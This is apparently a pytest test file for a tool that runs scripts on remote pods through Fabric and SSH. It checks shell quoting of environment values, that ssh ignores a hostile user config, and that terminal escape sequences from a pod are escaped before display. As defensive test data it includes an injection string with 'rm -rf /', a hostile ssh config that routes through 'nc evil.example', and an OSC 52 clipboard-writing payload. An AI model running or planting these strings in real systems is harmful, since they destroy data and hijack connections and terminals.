"""The env of a pod-side script survives Fabric's inline `export K=V && command`, which does
not quote (fabric.runners.Remote.start): podcycle.remote.shell_env quotes each value. Checked
through a real bash, with the same prefix Fabric builds."""

import subprocess

import pytest

from podcycle.remote import shell_env

VALUES = [
    "--blocks 1 --channels 8",  # TRAIN_EXTRA_ARGS: several words
    "/data/my dataset/",  # a path with a space
    "it's $HOME; `id` && rm -rf / #",  # shell syntax must stay text
    "",
    "tab\there\nnewline",
]


@pytest.mark.parametrize("value", VALUES)
def test_values_arrive_as_themselves(value: str) -> None:
    env = shell_env({"TRAIN_EXTRA_ARGS": value, "RUN_OUT": "/w/run 1"})
    prefix = " ".join(f"{k}={v}" for k, v in sorted(env.items()))  # Fabric's own format
    out = subprocess.run(["bash", "-c", f'export {prefix} && printf %s "$TRAIN_EXTRA_ARGS"'],
                         capture_output=True, text=True, check=True).stdout
    assert out == value


@pytest.mark.parametrize("name", ["A B", "X=1", "$(id)", "1ABC", ""])
def test_a_name_that_is_not_a_variable_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="not a shell variable name"):
        shell_env({name: "x"})


def test_the_cycles_ssh_reads_no_user_config_and_its_options_hold(tmp_path) -> None:
    """`ssh -G` prints the configuration ssh would use, without connecting: the installed
    ssh takes every option, and -F none keeps ~/.ssh/config (a Host * with RemoteCommand or
    RequestTTY breaks rsync) out of the cycle's connections."""
    from pathlib import Path

    from podcycle.remote import Endpoint, ssh_options

    endpoint = Endpoint("127.0.0.1", 2222, "root", Path(tmp_path / "key"))
    options = ssh_options(endpoint, tmp_path / "known_hosts", "run-1")
    assert options[:2] == ["-F", "none"]
    shown = subprocess.run(["ssh", "-G", *options, endpoint.host], capture_output=True,
                           text=True, check=True, stdin=subprocess.DEVNULL).stdout
    settings = dict(line.split(" ", 1) for line in shown.splitlines() if " " in line)
    assert settings["port"] == "2222" and settings["batchmode"] == "yes"
    assert settings["identitiesonly"] == "yes" and settings["controlmaster"] == "auto"
    assert settings["stricthostkeychecking"] == "true"
    assert "remotecommand" not in settings and settings.get("requesttty") in (None, "auto")
    # A hostile user config, given as ssh's config file: read without the cycle's options
    # (the control), ignored with them, since their -F none comes last and wins.
    hostile = tmp_path / "config"
    hostile.write_text("Host *\n  RemoteCommand echo hijacked\n  RequestTTY force\n"
                       "  ProxyCommand nc evil.example 22\n  User mallory\n")

    def resolved(*args: str) -> dict[str, str]:
        out = subprocess.run(["ssh", "-G", *args, endpoint.host], capture_output=True,
                             text=True, check=True, stdin=subprocess.DEVNULL).stdout
        return dict(line.split(" ", 1) for line in out.splitlines() if " " in line)

    read = resolved("-F", str(hostile))
    assert read["remotecommand"] == "echo hijacked" and read["user"] == "mallory"
    kept_out = resolved("-F", str(hostile), *options)
    assert "remotecommand" not in kept_out and "proxycommand" not in kept_out
    assert kept_out.get("requesttty") in (None, "auto")
    assert kept_out["user"] != "mallory"


class _EchoingConnection:
    """Stands in for Fabric's Connection (no pod needed): its command 'prints' `said` to the
    streams the caller gave, as Invoke's runner does, and returns an ordinary result."""

    def __init__(self, said: str) -> None:
        self.said = said

    def run(self, command: str, **kwargs):
        from types import SimpleNamespace

        kwargs["out_stream"].write(self.said)
        kwargs["err_stream"].write(self.said)
        return SimpleNamespace(exited=0, stdout=self.said, stderr=self.said)


def test_what_a_pod_streams_is_shown_never_obeyed(capsys) -> None:
    """A hostile pod's training log (a compromised image, a process on the pod) reached the
    terminal raw: OSC 52 writes the clipboard, OSC 0 retitles the window, CSI 2J clears the
    screen, a carriage return forges a line. They are shown as escapes; the captured output
    the cycle parses stays exactly what the pod sent."""
    from podcycle.remote import run

    said = "epoch 1\tok\n\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]0;title\x07\x1b[2Jforged\r[cycle] ok\n"
    result = run(_EchoingConnection(said), "true")
    shown = capsys.readouterr()
    expected = ("epoch 1\tok\n\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\x1b]0;title\\x07\\x1b[2Jforged"
                "\\x0d[cycle] ok\n")
    assert (shown.out, shown.err) == (expected, expected)
    assert result.stdout == said and result.exited == 0
